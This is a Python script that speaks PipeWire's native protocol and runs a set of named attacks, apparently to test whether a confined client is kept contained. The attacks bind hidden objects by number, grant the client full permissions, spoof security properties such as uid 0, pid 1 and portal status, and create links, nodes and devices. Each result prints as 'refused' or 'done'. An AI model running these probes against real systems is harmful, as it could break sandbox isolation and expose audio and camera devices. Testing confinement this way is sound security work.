"""Attacks on PipeWire by its native protocol; prints what came of each as one line of words."""

import os
import socket
import struct
import sys

TYPES = ("Client", "Device", "Factory", "Link", "Metadata", "Module", "Node", "Port", "Profiler", "SecurityContext")


def value(kind, content):
    return struct.pack("=II", len(content), kind) + content + b"\0" * (-len(content) % 8)


def pod(item):
    if isinstance(item, int):
        return value(4, struct.pack("=i", item))
    if isinstance(item, str):
        return value(8, item.encode() + b"\0")
    if isinstance(item, dict):
        pairs = [text for pair in item.items() for text in pair]
        return pod((len(item), *pairs))
    return value(14, b"".join(map(pod, item)))


def parsed(data):
    items = []
    while len(data) >= 8:
        size, kind = struct.unpack("=II", data[:8])
        content, data = data[8 : 8 + size], data[8 + size + -size % 8 :]
        if kind == 4:
            items.append(struct.unpack("=i", content)[0])
        elif kind == 8:
            items.append(content[:-1].decode(errors="replace"))
        elif kind == 14:
            items.append(parsed(content))
        else:
            items.append(None)
    return items


class Server:
    """A connection; objects 0 to 2 are core, client and registry."""

    def __init__(self):
        path = os.environ["PIPEWIRE_RUNTIME_DIR"] + "/" + os.environ["PIPEWIRE_REMOTE"]
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.settimeout(20)
        self.socket.connect(path)
        self.sent, self.next, self.globals, self.errors = 0, 3, {}, []
        self.call(0, 1, 3)
        self.call(1, 2, {"application.name": "attacker"})
        self.call(0, 5, 3, 2)
        self.wait()

    def call(self, target, opcode, *fields):
        body = pod(fields)
        header = struct.pack("=IIII", target, opcode << 24 | len(body), self.sent, 0)
        self.socket.sendall(header + body)
        self.sent += 1

    def read(self, length):
        data = b""
        while len(data) < length:
            more = self.socket.recv(length - len(data))
            if not more:
                raise EOFError
            data += more
        return data

    def wait(self):
        """Until all is answered; what was refused is in errors."""
        self.errors = []
        self.call(0, 2, 0, 1000 + self.sent)
        expected = 999 + self.sent
        while True:
            target, word, _, _ = struct.unpack("=IIII", self.read(16))
            opcode, body = word >> 24, parsed(self.read(word & 0xFFFFFF))[0]
            if (target, opcode) == (0, 1) and body[1] == expected:
                return
            if (target, opcode) == (0, 3):
                self.errors.append(body[3])
            if (target, opcode) == (2, 0):
                self.globals[body[0]] = (body[2].rsplit(":", 1)[1], body[4])
            if (target, opcode) == (2, 1):
                self.globals.pop(body[0], None)

    def attempt(self, target, opcode, *fields):
        self.call(target, opcode, *fields)
        self.next += 1
        self.wait()
        return "refused" if self.errors else "done"

    def bind(self, number, kind):
        return self.attempt(2, 1, number, f"PipeWire:Interface:{kind}", 3, self.next)

    def create(self, factory, kind, properties):
        return self.attempt(0, 6, factory, f"PipeWire:Interface:{kind}", 3, properties, self.next)


def names(server):
    """What is seen, as kinds and names."""
    keys = ("node.name", "factory.name", "metadata.name", "application.name", "core.name")
    seen = set()
    for kind, properties in server.globals.values():
        texts = dict(zip(properties[1::2], properties[2::2]))
        seen.add(kind + ":" + next((texts[key] for key in keys if key in texts), "-"))
    return " ".join(sorted(seen))


def main():
    attack = sys.argv[1]
    server = Server()
    if attack == "see":
        print(names(server))
    elif attack == "bind":
        # Whatever was not told of, by its number.
        bound = {number for number in range(200) if number not in server.globals
                 for kind in TYPES if server.bind(number, kind) == "done"}
        print("bound", sorted(bound))
    elif attack == "permissions":
        # Its own, with everything: what is any object, and each by its number.
        entries = [item for number in (-1, *range(200)) for item in (number, 0o710)]
        said = server.attempt(1, 4, 201, *entries)
        server.wait()
        print(said, names(server))
    elif attack == "properties":
        server.attempt(1, 2, {
            "pipewire.access": "unrestricted", "pipewire.client.access": "unrestricted", "media.category": "Manager",
            "pipewire.sec.softwarecontainer.media": "playback,capture,camera", "pipewire.sec.engine": "none",
            "pipewire.sec.pid": "1", "pipewire.sec.uid": "0", "pipewire.access.portal.is_portal": "yes"})
        server.wait()
        print(names(server))
    elif attack == "create":
        tried = {
            "link-factory": ("Link", {"link.output.node": "28", "link.input.node": "29"}),
            "metadata": ("Metadata", {"metadata.name": "default"}),
            "spa-node-factory": ("Node", {"factory.name": "support.null-audio-sink"}),
            "spa-device-factory": ("Device", {"factory.name": "api.alsa.enum.udev"}),
            "adapter": ("Node", {"factory.name": "support.null-audio-sink", "media.class": "Audio/Sink"}),
            "client-device": ("Device", {}),
            "session": ("Session", {}),
        }
        print(" ".join(f"{name}:{server.create(name, *what)}" for name, what in tried.items()))


main()
